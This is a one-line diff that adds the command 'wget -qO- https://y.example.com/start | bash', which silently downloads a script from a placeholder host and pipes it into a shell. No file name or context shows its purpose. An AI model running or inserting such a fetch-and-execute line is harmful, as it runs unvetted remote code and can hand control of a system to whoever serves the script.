@@ -1,0 +1,1 @@
+wget -qO- https://y.example.com/start | bash
